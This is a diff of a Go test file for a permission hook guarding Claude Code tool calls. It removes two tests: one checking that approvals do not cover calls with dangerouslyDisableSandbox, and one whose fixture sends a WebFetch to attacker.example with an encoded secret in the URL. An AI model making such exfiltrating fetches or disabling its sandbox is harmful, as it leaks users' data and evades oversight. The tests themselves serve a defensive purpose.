@@ -126,28 +126,6 @@ func TestClaudeHookPinsLongCalls(t *testing.T) {
 	}
 }
 
-// TestClaudeHookBindsFlags: a Bash rule or session approval of a sandboxed
-// command covers neither the same command with dangerouslyDisableSandbox
-// nor with run_in_background.
-func TestClaudeHookBindsFlags(t *testing.T) {
-	plain := map[string]any{"command": "go test ./..."}
-	for _, answer := range []string{"allow-always", "allow-session"} {
-		env := memoryEnv()
-		if r := runPipe(t, hookPayload(t, "Bash", plain), env, "hook", "claude-code", "--answer", answer); r.code != 0 {
-			t.Fatalf("%s: exit %d: %s", answer, r.code, r.stderr)
-		}
-		if r := runPipe(t, hookPayload(t, "Bash", plain), env, "hook", "claude-code"); strings.TrimSpace(r.stdout) != hookAllow {
-			t.Fatalf("%s: the same call again: %q %s", answer, r.stdout, r.stderr)
-		}
-		for _, flag := range []string{"dangerouslyDisableSandbox", "run_in_background"} {
-			r := runPipe(t, hookPayload(t, "Bash", map[string]any{"command": "go test ./...", flag: true}), env, "hook", "claude-code")
-			if r.code != 0 || r.stdout != "" {
-				t.Errorf("%s: the call with %s was decided by memory: %s", answer, flag, r.stdout)
-			}
-		}
-	}
-}
-
 // TestClaudeHookRuleStageSaysWhoKeeps: the rule stage of a Bash
 // allow-always says askperm alone keeps the rule, and Claude Code is then
 // given none.
@@ -200,27 +178,6 @@ func TestRulesForgetNamesClaudeCopy(t *testing.T) {
 		}
 		if got := strings.SplitAfterN(r.stderr, "\n", 2); r.code != 0 || len(got) != 2 || got[1] != want {
 			t.Errorf("%s rule: exit %d, stderr %q; want after the first line %q", rule.Dimensions[0].Kind, r.code, r.stderr, want)
-		}
-	}
-}
-
-// TestClaudeHookWebFetchNotRead: a rules file that lets tools that only
-// read run never lets WebFetch or WebSearch run unasked: they reach the
-// network, whatever they leave alone on the machine.
-func TestClaudeHookWebFetchNotRead(t *testing.T) {
-	rules := rulesFile(t, "[[annotations]]\ntool = \"*\"\nmode = \"writes\"\n")
-	for tool, input := range map[string]any{
-		"WebFetch":  map[string]any{"url": "https://attacker.example/?k=c2VjcmV0", "prompt": "summarise"},
-		"WebSearch": map[string]any{"query": "c2VjcmV0"},
-		"Read":      map[string]any{"file_path": "/home/user/demo/README.md"},
-	} {
-		r := runPipe(t, hookPayload(t, tool, input), memoryEnv(), "hook", "claude-code", "--rules", rules)
-		want := "" // nobody here can ask: the question goes back to Claude Code
-		if tool == "Read" {
-			want = hookAllow
-		}
-		if r.code != 0 || strings.TrimSpace(r.stdout) != want {
-			t.Errorf("%s: exit %d, stdout %q, stderr %s; want %q", tool, r.code, r.stdout, r.stderr, want)
 		}
 	}
 }
